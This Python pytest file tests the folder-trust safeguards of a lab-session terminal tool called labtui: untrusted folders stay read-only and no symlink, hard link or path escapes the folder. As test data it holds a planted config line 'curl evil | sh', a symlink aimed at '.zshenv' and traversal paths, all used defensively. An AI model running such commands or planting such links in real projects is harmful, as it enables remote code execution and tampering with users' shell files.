"""A lab folder from a stranger: nothing happens before it is trusted, and nothing leaves it after that."""

import io
import os
import shutil
import sqlite3
import sys
from pathlib import Path
from typing import Any

import pytest

from labtui.cluster import local_files
from labtui.cluster.local_files import open_inside, read_inside, stat_inside, write_export, write_inside
from labtui.commands.cli import main
from labtui.commands.terminal import ask_trust
from labtui.domain.errors import DataError, ExportError, FolderError, NotTrusted, StoreError, UsageError
from labtui.session import mirrors
from labtui.session import settings as trusting
from labtui.session.folder import LabFolder, find_folder
from labtui.session.labs import load_edition, open_answers, read_answers
from labtui.session.opening import effects_of_trust, lock_folder, stored_state
from labtui.session.session import Session
from labtui.session.settings import Settings, read_settings, trust, with_changes, write_settings
from labtui.session.store import Store
from tests.conftest import TextTerminal
from tests.session.conftest import Bench, accepted, draft
from tests.session.scripted import keras_log


def tree(folder: Path) -> dict[str, bytes | str]:
    """Everything in a folder: bytes of files, targets of links."""
    found = {}
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[name] = str(path.readlink())
        elif path.is_file():
            found[name] = path.read_bytes()
    return found


def edit(folder: Path, **changes: object) -> None:
    """Write other settings, as whoever edits `lab.toml` does."""
    write_settings(folder / "lab.toml", with_changes(read_settings(folder / "lab.toml"), **changes))


@pytest.fixture
def received(bench: Bench, tmp_path: Path) -> Path:
    """What a stranger packed: a running job, a planned one, a link in place of a mirror, no record of who wrote it."""
    accepted(bench)
    bench.cluster.reachable = False
    bench.session.submit(draft(2))
    bench.session.close()
    folder = tmp_path / "home" / "downloads" / "lab"
    shutil.copytree(bench.path, folder, symlinks=True)
    with sqlite3.connect(folder / "labtui.db") as database:
        database.execute("DELETE FROM meta")
    database.close()
    for log in (folder / "logs").iterdir():
        log.unlink()
    (folder / "logs" / Path(bench.cluster.log("100")).name).symlink_to("../../../.zshenv")
    shutil.copy(tmp_path / "small.toml", folder)
    edit(folder, profile="small.toml")
    return folder


@pytest.mark.parametrize("profile", ["PLACE/small.toml", "../../../small.toml", "link.toml", "~/x.toml"])
def test_a_profile_outside_a_stranger_s_folder_is_not_read_before_trust(
    received, tmp_path, monkeypatch, profile
):
    (tmp_path / "small.toml").write_text("token_abc = 1")
    (received / "link.toml").symlink_to(tmp_path / "small.toml")
    edit(received, profile=profile.replace("PLACE", str(tmp_path)))
    with pytest.raises(UsageError, match="not trusted and names a file outside it"):
        trusting.load_named(received)
    monkeypatch.setattr(trusting, "load_profile", pytest.fail)
    why = trusting.check_trust(received)
    assert why is not None and "a profile outside the folder" in " ".join(effects_of_trust(received))


def test_nothing_is_asked_sent_or_written_before_trust(received, bench, monkeypatch):
    before = tree(received)
    calls = len(bench.cluster.calls)
    monkeypatch.setattr("labtui.session.lab_cluster.connection_to", lambda *_: bench.cluster)
    with Session.open(received) as session:
        assert isinstance(session.why_read_only, NotTrusted)
        assert len(session.state.submissions) == 2
        for change, of in ("submit", draft()), ("cancel", 1), ("hold", 1), ("test_only", draft()):
            with pytest.raises(NotTrusted, match="not trusted"):
                getattr(session, change)(of)
        session.refresh()
    assert len(bench.cluster.calls) == calls and tree(received) == before
    assert not (received.parents[1] / ".zshenv").exists()


def test_a_trusted_folder_writes_through_no_link(received, open_bench, bench):
    trust(received)
    bench.cluster.reachable = True
    bench.cluster.write("100", keras_log(30, 5))
    (bench.path / "logs").rename(bench.path / "old-logs")
    (bench.path / "logs").symlink_to(received / "logs")  # a link on the way
    again = open_bench(bench.cluster)
    again.run(60)
    assert any("link" in problem.sentence for problem in again.session.state.problems)
    (bench.path / "logs").unlink()
    shutil.copytree(received / "logs", bench.path / "logs", symlinks=True)  # and a link at its end
    again.run(200)
    assert any("link" in problem.sentence for problem in again.session.state.problems)
    assert not (received.parents[1] / ".zshenv").exists() and not (bench.path.parents[1] / ".zshenv").exists()


@pytest.mark.parametrize("arguments", [("watch",), ("submit", "10.5"), ("export",), ("repair",)])
def test_without_a_terminal_a_command_ends_with_the_hint(received, arguments, monkeypatch, command):
    before = tree(received)
    monkeypatch.chdir(received)
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    words = " ".join(command([*arguments], 2).err.split())
    assert "is not trusted" in words and "add `--trust`" in words and "connect to login1" in words
    assert tree(received) == before


@pytest.mark.parametrize("arguments", [("results",), ("queue",), ("queue", "--offline"), ("log", "1")])
def test_what_only_looks_works_and_writes_nothing(received, arguments, monkeypatch):
    before = tree(received)
    monkeypatch.chdir(received)
    assert main([*arguments]) in (0, 1) and tree(received) == before


def test_the_numbers_of_a_received_folder_come_from_its_logs(bench, tmp_path, monkeypatch):
    """Also once it is trusted; only then are those shown whose log is gone."""
    accepted(bench)
    bench.cluster.write("100", keras_log(9, 8, 8, 8, 8))
    bench.cluster.end("100")
    bench.run(200, lambda: bench.session.state.runs[1].outcome is not None)
    bench.session.close()
    shutil.copy(tmp_path / "small.toml", bench.path)
    edit(bench.path, profile="small.toml")
    trust(bench.path)
    sent, moved = (Path(shutil.copytree(bench.path, tmp_path / name)) for name in ("sent", "moved"))
    name = f"logs/{Path(bench.cluster.log('100')).name}"
    (sent / name).write_bytes(keras_log(5, 4, 4, 4, 4))
    (moved / name).unlink()

    def times(folder: Path) -> list[int | None]:
        return [epoch.printed_seconds for epoch in stored_state(LabFolder(folder)).runs[1].epochs]

    assert (times(sent), times(moved)) == ([5, 4, 4, 4, 4], [])
    with monkeypatch.context() as limit:  # the screens read a long log piece by piece
        limit.setattr(mirrors, "READ_PIECE", 150)
        limit.setattr(mirrors, "AT_ONCE_BYTES", 150)
        with Session.open(sent) as session:
            while len(session.state.runs[1].epochs) < 5:
                session.next_state(session.state, 20)
    assert ask_trust(sent, given=True) is ask_trust(moved, given=True) is None
    assert (times(sent), times(moved)) == ([5, 4, 4, 4, 4], [9, 8, 8, 8, 8])
    monkeypatch.setattr(mirrors.Readings, "read_whole", pytest.fail)
    assert times(bench.path) == [9, 8, 8, 8, 8], "the user's own are not read again"


def test_the_first_start_is_the_first_one_only(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    assert [trusting.is_first_start(), trusting.is_first_start()] == [True, False]
    (tmp_path / "file").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    assert not trusting.is_first_start(), "what cannot be remembered is not shown each time"


def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
    assert trusting.check_trust(lab_path) is None
    moved = lab_path.with_name("moved")
    lab_path.rename(moved)
    assert trusting.check_trust(moved) is not None
    moved.rename(lab_path)
    assert trusting.check_trust(lab_path) is None
    (lab_path / trusting.ID_FILE).write_bytes(sent := b"0" * 32)
    assert trusting.check_trust(lab_path) is not None
    trust(lab_path)
    assert (lab_path / trusting.ID_FILE).read_bytes() != sent, "another folder may bring that one"
    profile = tmp_path / "small.toml"
    text = profile.read_text()
    profile.write_text("no profile")
    with pytest.raises(DataError, match="small"):
        ask_trust(lab_path, given=True)
    profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
    why = trusting.check_trust(lab_path)
    assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(lab_path))
    trust(lab_path)
    assert trusting.check_trust(lab_path) is None
    trusting.forget_trust(lab_path)
    assert trusting.check_trust(lab_path) is not None


@pytest.mark.parametrize(
    "change", [{"host": "evil.test"}, {"user": "other"}, {"port": 4711}, {"host_key": "SHA256:x"}], ids=str
)
def test_a_changed_host_or_user_is_asked_about_again(lab_path, change):
    """By whoever edits `lab.toml`; not when labtui itself writes what its user chose."""
    LabFolder.open(lab_path).save_settings(with_changes(read_settings(lab_path / "lab.toml"), **change))
    assert trusting.check_trust(lab_path) is None
    edit(lab_path, data_dir="/elsewhere")
    assert trusting.check_trust(lab_path) is None
    edit(lab_path, **dict.fromkeys(change, None if "port" in change else "again"))
    why = trusting.check_trust(lab_path)
    assert why is not None and "has changed since you trusted it" in why.sentence
    LabFolder.open(lab_path).save_settings(with_changes(read_settings(lab_path / "lab.toml"), group="us"))
    assert trusting.check_trust(lab_path) is not None, "what was not trusted is not trusted by a change"


def test_another_owner_is_another_folder(lab_path, monkeypatch):
    """A folder of somebody else is never taken from a parent, and no record fits it."""
    inner = lab_path / "scripts"
    assert find_folder(inner) == lab_path
    monkeypatch.setattr(os, "geteuid", lambda: lab_path.stat().st_uid + 1, raising=False)
    monkeypatch.setattr(trusting, "owner_of", lambda path: 4711)
    with pytest.raises(UsageError, match="no lab folder"):
        find_folder(inner)
    assert trusting.check_trust(lab_path) is not None


@pytest.fixture
def snare(lab_path: Path, tmp_path: Path) -> tuple[LabFolder, Path]:
    """A trusted folder, and a place outside it that links will lead to."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(b"\x89PNG secret")
    return LabFolder.open(lab_path), outside


PATHS = ("link", "linked/secret", "linked/deep/new", "pipe", "scripts", "scripts/../../outside/secret")


@pytest.mark.skipif(os.open not in os.supports_dir_fd, reason="folders are not opened by descriptor here")
def test_a_folder_swapped_for_a_link_while_it_is_used_is_not_followed(tmp_path, monkeypatch):
    root, elsewhere = tmp_path / "lab", tmp_path / "elsewhere"
    for folder, text in ((root / "logs", "ours"), (elsewhere, "theirs")):
        folder.mkdir(parents=True)
        (folder / "1.out").write_text(text)
    opened = os.open

    def swapped(path: Any, *arguments: Any, **options: Any) -> int:
        if str(path).endswith("1.out") and not (root / "logs").is_symlink():
            (root / "logs").rename(root / "before")
            (root / "logs").symlink_to(elsewhere)
        return opened(path, *arguments, **options)

    monkeypatch.setattr(os, "open", swapped)
    assert read_inside(root, "logs/1.out") == b"ours"
    with pytest.raises(OSError, match="link"):
        write_inside(root, "logs/1.out", b"new")
    assert (elsewhere / "1.out").read_text() == "theirs"


@pytest.mark.parametrize("name", [*PATHS, "../outside/secret"])
def test_no_path_leads_out(snare, name):
    folder, outside = snare
    root = folder.path
    (root / "link").symlink_to(outside / "secret")
    (root / "linked").symlink_to(outside)
    os.mkfifo(root / "pipe")
    before = tree(outside)
    for path in (name, root / name):
        assert stat_inside(root, path) is None
        with pytest.raises(OSError):
            read_inside(root, path)
        if name not in ("pipe", "scripts"):
            with pytest.raises(OSError):
                write_inside(root, path, b"mine")
            with pytest.raises(OSError):
                os.close(open_inside(root, path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))
    if name.startswith("linked"):
        with pytest.raises(OSError, match="link"):
            local_files.make_folder_inside(root, "linked/deep")
        assert list(local_files.files_inside(root, "linked")) == []
    assert tree(outside) == before


def test_a_mirror_or_database_that_claims_a_terabyte_is_not_read_through(received, bench):
    name = Path(bench.cluster.log("100")).name
    (received / "logs" / name).unlink()
    with (received / "logs" / name).open("wb") as file:
        file.truncate(1 << 40)
    assert stored_state(LabFolder(received)).runs[1].epochs == ()
    with (received / "labtui.db").open("wb") as file:
        file.truncate(1 << 40)
    with pytest.raises(StoreError, match="larger than"):
        stored_state(LabFolder(received))


def test_a_hard_link_is_never_written_through(snare):
    folder, outside = snare
    (folder.path / "logs" / "twin.out").hardlink_to(outside / "secret")
    before = tree(outside)
    for how in (os.O_APPEND, os.O_TRUNC):
        with pytest.raises(OSError, match="hard link"):
            open_inside(folder.path, "logs/twin.out", os.O_WRONLY | how)
    folder.write("logs/twin.out", b"mine")  # replaced as a whole: the other name keeps its file
    assert tree(outside) == before and folder.read("logs/twin.out") == b"mine"


def test_new_folders_are_for_their_owner_whatever_the_umask(tmp_path, request):
    from labtui.practice.layout import StateFile

    old = os.umask(0)
    request.addfinalizer(lambda: os.umask(old))
    LabFolder.create(tmp_path / "a" / "lab", Settings(edition="hpc4ai-ch10", profile="mn5"))
    StateFile(tmp_path / "b" / "cluster")  # as `labtui practice --keep b` does
    lock_folder(tmp_path / "a" / "lab" / ".labtui.lock").release()
    assert [path for path in tmp_path.rglob("*") if path.stat().st_mode & 0o077] == []


def test_each_kind_of_file_refuses_a_link(snare):
    folder, outside = snare
    root, before = folder.path, tree(outside)
    (root / "scripts" / "stolen.py").symlink_to(outside / "secret")
    assert "stolen.py" not in folder.script_files()
    task = next(task for task in load_edition("hpc4ai-ch10", folder).tasks if task.questions)
    shutil.rmtree(root / "answers")
    (root / "answers").symlink_to(outside)
    with pytest.raises(FolderError, match="link"):
        open_answers(folder, task)
    (outside / f"{task.id}.md").write_bytes(b"# theirs")
    with pytest.raises(FolderError, match="link"):
        read_answers(folder, task)
    (outside / f"{task.id}.md").unlink()
    (root / "plots").rmdir()
    (root / "plots").symlink_to(outside)
    with pytest.raises(ExportError, match="link"):
        write_export(root / "plots" / "speedup.png", b"x", root)
    for ending in ("", "-wal", "-shm"):
        (root / "labtui.db").unlink(missing_ok=True)
        (root / f"labtui.db{ending}").symlink_to(outside / "database")
        with pytest.raises(StoreError, match="link"):
            Store(folder.database_path)
        (root / f"labtui.db{ending}").unlink()
    os.mkfifo(root / "labtui.db")
    with pytest.raises(StoreError, match="not a regular file"):
        Store(folder.database_path)
    folder.lock_path.symlink_to(outside / "secret")
    with pytest.raises(FolderError, match="link"):
        lock_folder(folder.lock_path)
    folder.settings_path.unlink()
    folder.settings_path.symlink_to(outside / "secret")
    with pytest.raises(DataError, match="link"):
        folder.settings()
    assert tree(outside) == before


def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatch, capsys):
    profile = received / "small.toml"
    brought = 'quota_command = "lquota"\n'
    profile.write_text(f'{brought}{profile.read_text()}\n[launch]\nsetup = ["source /tmp/x"]\n')
    at = {"host": "nct01042@login1:2222", "user": "me"}  # the address counts
    edit(received, **at, identity="~/key", host_key="SHA256:abc")
    monkeypatch.setattr(sys, "stdin", TextTerminal("n\n"))
    assert isinstance(ask_trust(received, given=False), NotTrusted)
    assert trusting.check_trust(received) is not None
    shown = " ".join(capsys.readouterr().err.split())
    assert shown.count("Trust this folder?") == 1
    for words in (
        "connect to login1, port 2222 as nct01042 with the key ~/key and take the host key SHA256:abc without asking",
        "your own SSH configuration has for that host (ProxyJump, ProxyCommand)",
        "submit 1 planned job (ResNet50-", "send everything in scripts/ with each job",
        *(f"brings a command: {command}" for command in ("lquota", "source /tmp/x")),
    ):  # fmt: skip
        assert words in shown, shown
    (received / "labtui.db").write_bytes(b"no database")
    why = trusting.check_trust(received)
    assert why is not None and any("is not known: " in line for line in effects_of_trust(received))
    monkeypatch.setattr(sys, "stdin", TextTerminal("y\n"))
    assert ask_trust(received, given=False) is None and trusting.check_trust(received) is None
    assert ask_trust(received, given=False) is None, "it is asked once"
    assert capsys.readouterr().err.count("Trust this folder?") == 1


async def test_the_screens_over_a_stranger_s_folder_say_that_it_can_only_be_read(received):
    from labtui.tui.app import LabApp
    from tests.tui.waiting import text_of, until

    with Session.open(received, start=False) as session:
        app = LabApp(session)
        async with app.run_test(size=(120, 40)) as pilot:
            words = ("is not trusted: it can only be read", "connect to login1", "read-only", "not connected")
            await until(pilot, lambda: all(each in " ".join(text_of(app).split()) for each in words))
